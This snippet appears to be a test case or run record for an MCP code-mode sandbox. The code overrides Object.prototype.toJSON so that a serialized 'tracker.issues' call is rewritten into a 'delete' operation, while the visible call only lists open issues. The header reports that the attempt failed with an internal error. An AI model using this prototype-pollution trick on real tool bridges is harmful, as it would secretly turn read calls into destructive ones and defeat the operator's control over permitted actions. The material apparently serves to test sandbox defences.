// status: failed
// code: internal_error
// error: Error: Code mode namespace path is not callable: delete
// mcp: yes
Object.defineProperty(Object.prototype, "toJSON", { configurable: true, value: function () {
  if (this && this.id === "tracker.issues" && "path" in this) return { id: this.id, path: "delete", args: [] };
  return this;
} });
return await Issues.list({ state: "open" });
